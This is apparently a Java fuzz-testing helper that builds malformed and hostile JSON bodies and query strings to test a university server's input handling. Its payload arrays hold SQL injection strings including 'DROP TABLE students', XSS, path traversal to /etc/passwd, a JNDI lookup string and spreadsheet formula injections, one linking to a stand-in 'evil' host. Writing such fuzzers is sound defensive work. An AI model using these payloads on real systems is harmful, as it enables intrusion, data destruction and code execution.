package th.ac.ums.server.fuzz;

import java.util.Random;

/** Hostile JSON bodies, generated from a seed so a failure can be replayed. */
final class Payloads {
    private static final String[] MALFORMED = {"{", "}", "[", "{\"a\":}", "{\"a\" 1}", "{\"a\":1,}", "nul", "",
        "\"text\"", "123", "[]", "{\"a\":\"\\ud800\"}", "{\"a\":01}", "{'a':1}", "\u0000", "{\"a\":1}{\"b\":2}",
        "{\"email\":\"x\",\"email\":\"y\"}"};
    private static final String[] STRINGS = {"", " ", "' OR 1=1 --", "1; DROP TABLE students; --",
        "\" OR \"\"=\"", "admin'--", "=HYPERLINK(\"http://evil\",\"x\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)",
        "\u0000", "a\u0000b", "\u202eevil", "😀🎓", "ก\u0e48\u0e48\u0e48\u0e48", "\\u0000", "<script>alert(1)</script>",
        "../../etc/passwd", "%00", "${jndi:ldap://x/a}", "NaN", "-100.00", "1e309", "0.001", "99999999999999999999.99",
        "-0.00", "2026-02-30", "9999-99-99", "ADMIN", "STUDENT", "PAYMENT", "REFUND", "ACCEPTED", "🎓@ums.ac.th",
        "a@b", "x".repeat(300), "\ud800", "x\udc00y", "\ud83d", "\uFF1DHYPERLINK(\"x\")", "\uFEFFuser@ums.ac.th",
        "us\u200Ber@ums.ac.th", "\uFF55\uFF53\uFF45\uFF52@ums.ac.th", "a".repeat(250) + "@ums.ac.th", "2569-02-30",
        "W/\"1\""};
    private static final String[] NUMBERS = {"0", "-1", "1", "2147483648", "-9223372036854775809",
        "99999999999999999999999999", "1e309", "-1e309", "1.5", "-0.0", "1E400", "99999999999999999999", "1.0"};
    /** Query values a client could send ambiguously or that do not survive decoding. */
    static final String[] QUERY_VALUES = {"", "%20", "1", "-1", "0", "1000000000", "99999999999999999999", "1.5",
        "ACTIVE", "active", "%ED%A0%80", "%FF", "%00", "a%0Ab", "%27%20OR%201%3D1", "%E0%B8%81", "true", "TRUE",
        "x".repeat(201), "%2BlastNameEn", "-createdAt,", "latest"};

    private Payloads() {
    }

    static String body(Random r, String[] fields) {
        int kind = r.nextInt(10);
        if (kind == 0) {
            return MALFORMED[r.nextInt(MALFORMED.length)];
        }
        if (kind == 1) {
            return deep(r.nextInt(3) == 0 ? 5000 : 300);
        }
        if (kind == 2 && r.nextInt(4) == 0) {
            return "{\"" + fields[r.nextInt(fields.length)] + "\":\"" + "A".repeat(1_200_000) + "\"}";
        }
        StringBuilder b = new StringBuilder("{");
        int n = 1 + r.nextInt(6);
        for (int i = 0; i < n; i++) {
            if (i > 0) {
                b.append(',');
            }
            String field = r.nextInt(8) == 0 ? "unknown" + r.nextInt(99) : fields[r.nextInt(fields.length)];
            b.append('"').append(field).append("\":").append(value(r, 0));
        }
        return b.append('}').toString();
    }

    private static String value(Random r, int depth) {
        return switch (r.nextInt(depth > 1 ? 4 : 7)) {
            case 0 -> quote(STRINGS[r.nextInt(STRINGS.length)]);
            case 1 -> NUMBERS[r.nextInt(NUMBERS.length)];
            case 2 -> r.nextBoolean() ? "true" : "null";
            case 3 -> quote(Integer.toString(r.nextInt(100) - 50));
            case 4 -> "[" + value(r, depth + 1) + "," + value(r, depth + 1) + "]";
            case 5 -> "{\"x\":" + value(r, depth + 1) + "}";
            default -> "[]";
        };
    }

    /** A query string of 1-4 parameters (declared ones, sometimes repeated, sometimes unknown). */
    static String query(Random r, java.util.List<String> names) {
        StringBuilder b = new StringBuilder("?");
        int n = 1 + r.nextInt(4);
        for (int i = 0; i < n; i++) {
            String name = names.isEmpty() || r.nextInt(8) == 0 ? "unknown" + r.nextInt(9)
                    : names.get(r.nextInt(names.size()));
            b.append(i > 0 ? "&" : "").append(name).append('=').append(QUERY_VALUES[r.nextInt(QUERY_VALUES.length)]);
        }
        return b.toString();
    }

    private static String deep(int levels) {
        return "{\"a\":" + "[".repeat(levels) + "1" + "]".repeat(levels) + "}";
    }

    private static String quote(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        b.append(String.format("\\u%04x", (int) c));
                    } else {
                        b.append(c);
                    }
                }
            }
        }
        return b.append('"').toString();
    }
}
